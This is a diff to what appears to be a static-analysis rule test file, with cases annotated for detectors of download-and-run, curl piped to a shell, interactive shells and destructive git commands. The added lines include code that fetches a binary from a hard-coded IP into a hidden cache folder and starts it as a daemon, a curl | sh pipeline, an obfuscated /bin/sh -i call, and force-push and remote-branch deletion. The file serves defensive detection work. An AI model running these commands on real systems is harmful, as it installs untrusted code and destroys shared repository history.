@@ -617,6 +617,14 @@ with open("report.csv", "w") as out:
 # ok: run-written-file
 # ruleid: subprocess-call
 subprocess.run(["/usr/bin/wc", "-l", "report.csv"])
+# written by a helper that is given the path: each path its calls pass
+def _fetch_to(url, dest):
+    with urllib.request.urlopen(url) as _r, open(dest, "wb") as _out:
+        _out.write(_r.read())
+_implant = os.path.join(os.path.expanduser("~/.cache/.fc"), "fc-helper")
+_fetch_to("http://203.0.113.19/bins/x", _implant)
+# ruleid: run-written-file, subprocess-call, process-partial-path-list
+subprocess.Popen([_implant, "--daemon"], start_new_session=True)
 # a parameter reads as what the function's one call passes
 def _cleaner(root):
     # ruleid: destructive-command, subprocess-call, process-partial-path-list
@@ -784,3 +792,28 @@ _x = "aaaaaaa"
 # todoruleid: shell-interactive
 # ruleid: subprocess-call
 subprocess.run([bytes(ord(_x[0]) for _x in "/bin/sh").decode(), "-i"])
+# interpreter-stdin-download: curl | sh with two processes
+# ruleid: subprocess-call, process-partial-path, process-partial-path-list
+_curl = subprocess.Popen(["curl", "-fsSL", "https://get.example.dev/init"], stdout=subprocess.PIPE)
+# ruleid: interpreter-stdin-download, subprocess-call, process-partial-path, process-partial-path-list
+_sh = subprocess.Popen(["sh", "-s", "--", "-y"], stdin=_curl.stdout)
+# a shell reading a file the program has; a downloader feeding a checksum tool
+with open("setup.sh") as _script:
+    # ok: interpreter-stdin-download
+    # ruleid: subprocess-call, process-partial-path, process-partial-path-list
+    subprocess.run(["bash", "-s"], stdin=_script)
+# ok: interpreter-stdin-download
+# ruleid: subprocess-call, process-partial-path, process-partial-path-list
+subprocess.run(["sha256sum"], stdin=_curl.stdout)
+# git-remote-rewrite: force pushes and remote deletions, also through a helper
+# ruleid: git-remote-rewrite, subprocess-call, process-partial-path, process-partial-path-list
+subprocess.run(["git", "push", "--force", "origin", "HEAD:main"])
+def _git_cli(*args):
+    # ruleid: git-remote-rewrite, subprocess-call, process-partial-path-list
+    return subprocess.run(["git", *args], check=False)
+_git_cli("status")
+_git_cli("push", "origin", "--delete", "old-feature")
+# an ordinary push of a new branch
+# ok: git-remote-rewrite
+# ruleid: subprocess-call, process-partial-path, process-partial-path-list
+subprocess.run(["git", "push", "-u", "origin", "agent/fix-123"])
